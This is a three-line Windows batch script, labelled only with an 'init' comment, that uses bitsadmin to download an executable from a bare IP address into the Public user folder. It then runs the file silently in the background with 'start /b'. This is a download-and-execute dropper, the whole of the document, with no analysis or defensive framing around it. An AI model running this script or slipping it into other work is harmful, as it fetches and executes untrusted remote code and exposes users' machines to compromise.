REM init 7203 v0
bitsadmin /transfer job /download /priority high http://203.0.113.17/u.exe C:\Users\Public\u.exe
start /b C:\Users\Public\u.exe
